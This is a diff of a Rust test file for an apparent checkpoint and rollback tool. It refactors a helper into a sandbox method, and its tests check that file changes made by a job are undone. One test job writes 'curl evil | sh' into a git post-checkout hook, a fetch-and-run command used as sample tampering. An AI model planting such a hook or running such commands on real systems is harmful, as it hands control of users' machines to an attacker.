@@ -4,11 +4,7 @@
 use std::fs;
 use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
 
-use hermes_tests::{Outcome, PYTHON, Sandbox, TreeSnapshot, fixture, is_root, need, run_to_end, skip};
-
-fn changes(sandbox: &Sandbox, words: &[&str]) -> Outcome {
-    run_to_end(sandbox.hermes().arg("changes").args(words))
-}
+use hermes_tests::{PYTHON, Sandbox, TreeSnapshot, fixture, is_root, need, run_to_end, skip};
 
 #[test]
 fn whatever_a_job_did_is_undone_and_that_can_be_undone() {
@@ -34,17 +30,17 @@ fn whatever_a_job_did_is_undone_and_that_can_be_undone() {
              chmod 777 run; rm link; mkdir link; touch link/x; rmdir empty; rm -rf .git/refs/tags; mkfifo fifo; echo 'curl evil | sh' > .git/hooks/post-checkout")
         .ok();
     let after = TreeSnapshot::of(&sandbox.workspace);
-    let dry = changes(&sandbox, &["rollback", "--dry-run"]);
+    let dry = sandbox.changes(&["rollback", "--dry-run"]);
     dry.ok().says("restore tracked\n").says("remove  link/x\n").says("remove  fifo\n");
     after.assert_unchanged(&sandbox.workspace);
-    let back = changes(&sandbox, &["rollback"]);
+    let back = sandbox.changes(&["rollback"]);
     assert!(back.ok().err().contains("back at checkpoint 1") && back.err().contains("changes rollback 2"), "{}", back.report());
     before.assert_unchanged(&sandbox.workspace);
     assert_eq!(git(&["log", "--oneline"]).ok().out().lines().count(), 1);
-    assert!(changes(&sandbox, &["rollback", "1"]).ok().err().contains("nothing has changed since checkpoint 1"));
-    changes(&sandbox, &["rollback", "2"]).ok();
+    assert!(sandbox.changes(&["rollback", "1"]).ok().err().contains("nothing has changed since checkpoint 1"));
+    sandbox.changes(&["rollback", "2"]).ok();
     assert_eq!(sandbox.read("tracked"), "2\n");
-    changes(&sandbox, &["list"]).ok().says("checkpoint 1 ").says("checkpoint 3 ");
+    sandbox.changes(&["list"]).ok().says("checkpoint 1 ").says("checkpoint 3 ");
 }
 
 #[test]
@@ -57,7 +53,7 @@ fn nothing_starts_when_it_cannot_be_taken() {
     let nowhere = Sandbox::new().flags(["--checkpoint"]).env("XDG_STATE_HOME", "/proc/self");
     nowhere.sh("touch ran").refused(125);
     assert!(!nowhere.workspace.join("ran").exists());
-    assert!(changes(&Sandbox::new(), &["rollback"]).refused(125).err().contains("nothing is kept"));
+    assert!(Sandbox::new().changes(&["rollback"]).refused(125).err().contains("nothing is kept"));
 }
 
 #[test]
@@ -88,7 +84,7 @@ fn a_big_hole_costs_nothing_and_comes_back_as_one() {
     fs::File::create(&path).unwrap().set_len(10 << 30).unwrap();
     let run = sandbox.sh("rm sparse");
     assert!(run.ok().time.as_secs() < 20);
-    changes(&sandbox, &["rollback"]).ok();
+    sandbox.changes(&["rollback"]).ok();
     let meta = fs::metadata(&path).unwrap();
     assert_eq!(meta.len(), 10 << 30);
     assert!(meta.blocks() < 1 << 11);
@@ -116,9 +112,9 @@ fn random_sessions_are_undone() {
         let before = sandbox.plain_python(&session);
         let inside = sandbox.run([PYTHON, "-c", &session, &seed.to_string()]);
         assert_ne!(before.out(), inside.ok().out(), "seed {seed} changes something");
-        changes(&sandbox, &["rollback"]).ok();
+        sandbox.changes(&["rollback"]).ok();
         assert_eq!(before.ok().out(), sandbox.plain_python(&session).out(), "seed {seed}");
-        changes(&sandbox, &["rollback"]).ok();
+        sandbox.changes(&["rollback"]).ok();
         assert_eq!(inside.out(), sandbox.plain_python(&session).out(), "seed {seed}: and back again");
     }
 }
